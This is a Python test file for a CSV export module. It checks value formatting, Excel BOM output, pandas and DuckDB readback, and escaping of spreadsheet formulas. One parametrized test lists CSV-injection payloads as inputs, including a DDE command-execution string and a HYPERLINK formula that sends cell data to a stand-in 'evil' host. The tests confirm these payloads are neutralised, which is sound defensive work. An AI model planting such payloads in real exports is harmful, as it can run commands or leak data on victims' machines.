"""CSV: right forms, right types in pandas and DuckDB, and no text that a spreadsheet evaluates."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import duckdb
import pandas as pd  # type: ignore[import-untyped]
import pytest
from hypothesis import given
from hypothesis import strategies as st

from policygraph.report.tables import Column, Table, guard, unguard, write_csv
from policygraph.report.tables.model import SEPARATOR, Value

ALL_TYPES = Table(
    "t",
    "T",
    "",
    (
        Column("text", "Text", ""),
        Column("number", "Number", "", "integer"),
        Column("money", "Money", "", "decimal"),
        Column("day", "Day", "", "date"),
        Column("sure", "Sure", "", "boolean"),
        Column("web", "Web", "", "anyURI"),
        Column("year", "Year", "", "gYear"),
        Column("several", "Several", "", separator=SEPARATOR),
    ),
)
#: Any text but lone surrogates, which are no characters.
TEXT = st.text(st.characters(exclude_categories=["Cs"]))


def fill(**cells: Value) -> Table:
    empty: dict[str, Value] = {column.name: None for column in ALL_TYPES.columns}
    return ALL_TYPES.fill([{**empty, **cells}])


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_forms_of_xml_schema() -> None:
    table = fill(
        text="a",
        number=-5,
        money=Decimal("1.5E+3"),
        day=date(2017, 3, 20),
        sure=False,
        web="https://example.org/?a=1,2",
        year=987,
        several=("x", "y"),
    )
    assert write_csv(table) == (
        b"text,number,money,day,sure,web,year,several\r\n"
        b'a,-5,1500,2017-03-20,false,"https://example.org/?a=1,2",0987,x | y\r\n'
    )


def test_mark_for_excel() -> None:
    table = fill(text="Doña Ana")
    assert write_csv(table, bom=True) == b"\xef\xbb\xbf" + write_csv(table)
    assert "Doña Ana".encode() in write_csv(table)


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u00a0@x",
        "＝1+1",
        '=HYPERLINK("http://evil.example/?"&A1)',
    ],
)
def test_no_formula(text: str) -> None:
    [_, [cell, *_, several]] = read(write_csv(fill(text=text, several=(text, "b"))))
    assert cell == f"'{text}"
    assert several.startswith("'")
    assert unguard(cell) == text


def test_numbers_are_not_guarded() -> None:
    [_, [_, number, money, *_]] = read(write_csv(fill(number=-1, money=Decimal("-0.5"))))
    assert (number, money) == ("-1", "-0.5")


@given(TEXT)
def test_the_guard_can_be_taken_off(text: str) -> None:
    guarded = guard(text)
    assert unguard(guarded) == text
    assert guarded.lstrip()[:1] not in set("=+-@＝＋－＠")


@given(st.lists(st.sampled_from("'=+-@ \ta"), max_size=6).map("".join))
def test_the_guard_can_be_taken_off_whatever_stands_before(text: str) -> None:
    assert unguard(guard(text)) == text


@given(
    text=TEXT,
    several=st.lists(st.text(st.characters(codec="utf-8", exclude_characters="|¦"), min_size=1)),
    number=st.none() | st.integers(),
)
def test_what_is_written_is_read(text: str, several: list[str], number: int | None) -> None:
    table = fill(text=text, several=tuple(several), number=number)
    [_, [cell, integer, *_, joined]] = read(write_csv(table))
    assert unguard(cell) == text
    assert integer == ("" if number is None else str(number))
    parts = unguard(joined).split(SEPARATOR) if joined else []
    assert parts == several


def test_pandas_reads_every_table(tables: dict[str, Table]) -> None:
    kinds = {"integer": "Int64", "gYear": "Int64", "decimal": "float64", "boolean": "boolean"}
    for table in tables.values():
        dates = [column.name for column in table.columns if column.datatype == "date"]
        frame = pd.read_csv(
            io.BytesIO(write_csv(table)),
            dtype={
                column.name: kinds.get(column.datatype, "string")
                for column in table.columns
                if column.name not in dates
            },
            parse_dates=dates,
            date_format="%Y-%m-%d",
            keep_default_na=False,
            na_values=[""],
        )
        assert frame.shape == (len(table.rows), len(table.columns))
        for column in table.columns:
            values = table.values(column.name)
            assert int(frame[column.name].count()) == len(values) - values.count(None)
            if column.datatype == "date" and len(values) > values.count(None):
                assert str(frame[column.name].dtype).startswith("datetime64")
    money = [Decimal(value) for value in tables["funding"].values("amount_usd") if value]  # type: ignore[arg-type]
    frame = pd.read_csv(io.BytesIO(write_csv(tables["funding"])), dtype={"geoid": "string"})
    assert Decimal(int(frame["amount_usd"].sum())) == sum(money)
    assert frame["geoid"].tolist() == tables["funding"].values("geoid")


def test_duckdb_reads_every_table(tables: dict[str, Table], tmp_path: Path) -> None:
    kinds = {
        "integer": "BIGINT",
        "gYear": "SMALLINT",
        "decimal": "DECIMAL(18,6)",
        "date": "DATE",
        "boolean": "BOOLEAN",
    }
    with duckdb.connect() as database:
        for table in tables.values():
            path = tmp_path / f"{table.name}.csv"
            path.write_bytes(write_csv(table, bom=True))
            types = {column.name: kinds.get(column.datatype, "VARCHAR") for column in table.columns}
            read = database.read_csv(str(path), columns=types, header=True)
            rows = read.fetchall()
            assert len(rows) == len(table.rows)
            for column, found in zip(table.columns, zip(*rows, strict=True), strict=False):
                wanted = table.values(column.name)
                if not column.is_text:
                    assert list(found) == wanted, f"{table.name}.{column.name}"
